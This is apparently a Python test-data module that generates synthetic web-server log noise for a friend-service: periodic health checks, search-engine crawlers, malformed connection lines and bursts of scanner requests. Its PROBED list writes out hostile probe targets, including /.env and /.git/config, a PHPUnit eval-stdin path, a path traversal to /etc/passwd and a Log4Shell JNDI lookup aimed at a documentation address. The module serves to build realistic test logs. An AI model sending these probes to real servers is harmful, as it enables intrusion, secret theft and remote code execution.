"""What else stands in a real log: health checks, crawlers, scanners and lines that are no requests."""

from __future__ import annotations

import random
from collections.abc import Iterator

import httpx

Visit = tuple[float, str, httpx.Request]
"""Seconds after the first midnight, address, request."""

HEALTH_CHECK_EVERY = 600.0
CRAWLERS = (
    ("192.0.2.10", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
    ("192.0.2.11", "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)"),
    ("192.0.2.12", "Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)"),
)
PROBED = (
    "/.env",
    "/wp-login.php",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/cgi-bin/luci/;stok=/locale",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/actuator/health",
    "/friend-service/v1/users/../../../../etc/passwd",
    "/?x=${jndi:ldap://192.0.2.66/a}",
)
BROWSER = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36"


def noise(seconds: float, seed: int) -> Iterator[Visit]:
    """All requests that no person makes, in `seconds`, in no order."""
    draw = random.Random(seed)
    for tick in range(int(seconds / HEALTH_CHECK_EVERY)):
        yield tick * HEALTH_CHECK_EVERY + 7.3, "192.0.2.1", _get("/healthz", "kube-probe/1.35")
    for address, agent in CRAWLERS:
        yield from _crawl(draw, seconds, address, agent)
    for _ in range(14):
        start, address = draw.uniform(0, seconds - 60), f"198.51.100.{draw.randint(1, 254)}"
        for number, target in enumerate(draw.sample(PROBED, k=draw.randint(2, len(PROBED)))):
            yield start + number * draw.uniform(0.2, 2.0), address, _get(target, BROWSER)


def _crawl(draw: random.Random, seconds: float, address: str, agent: str) -> Iterator[Visit]:
    """A crawler's visits: robots.txt, then a handful of profiles at a steady pace."""
    start = draw.uniform(0, 6 * 3600)
    while start < seconds - 600:
        yield start, address, _get("/robots.txt", agent)
        for page in range(draw.randint(3, 9)):
            target = f"/friend-service/v1/users/{draw.randint(1, 5000)}"
            yield start + 10.0 + page * 20.0, address, _get(target, agent)
        start += draw.uniform(12 * 3600, 36 * 3600)


def not_requests(stamp: str, draw: random.Random) -> str:
    """A line that a server writes for a connection which sent no request, or half a line."""
    address = f"198.51.100.{draw.randint(1, 254)}"
    return draw.choice(
        (
            rf'{address} - - [{stamp}] "\x16\x03\x01\x02\x00\x01\x00\x01\xFC\x03\x03" 400 154 "-" "-" 0.031 "-"',
            f'{address} - - [{stamp}] "-" 408 0 "-" "-" 10.002 "-"',
            f'{address} - - [{stamp}] "" 400 0 "-" "-" 0.000 "-"',
            f'{address} - - [{stamp}] "GET /friend-service/v1/use',
            "",
        )
    )


def _get(target: str, agent: str) -> httpx.Request:
    # The raw target goes on the wire as it stands: a scanner's dots and braces are not tidied up.
    url = httpx.URL(scheme="http", host="friends.example", raw_path=target.encode())
    return httpx.Request("GET", url, headers={"User-Agent": agent})
